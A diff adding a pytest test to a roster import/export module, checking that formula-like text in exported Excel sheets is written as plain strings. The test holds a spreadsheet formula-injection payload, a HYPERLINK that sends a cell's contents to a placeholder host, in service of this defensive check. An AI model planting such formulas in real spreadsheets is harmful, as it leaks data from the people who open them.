@@ -216,3 +216,26 @@ def test_the_export_holds_the_filtered_roster_and_reads_back_in(store):
     # the export is a valid import: it updates the same two members
     job = run(store, base64.b64encode(everyone).decode())
     assert (job["created"], job["updated"], job["rejected"]) == (0, 2, 0)
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"点击")'
+
+
+def sheet_xml(content):
+    import zipfile
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
+                       if name.startswith("xl/worksheets/"))
+
+
+@pytest.mark.parametrize("build", [
+    lambda: excel.export([[FORMULA, "男", None, 3, "@SUM(1)"]]),
+    lambda: excel.rejected(["姓名", "性别"], [(2, [FORMULA, "+1"], {"姓名": ["不能为公式"]})]),
+])
+def test_text_that_looks_like_a_formula_is_written_as_text(build):
+    content = build()
+    assert "<f>" not in sheet_xml(content)
+    cells = [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2) for cell in row]
+    texts = [cell for cell in cells if isinstance(cell.value, str)]
+    assert FORMULA in [cell.value for cell in texts]
+    assert all(cell.data_type == "s" for cell in texts)
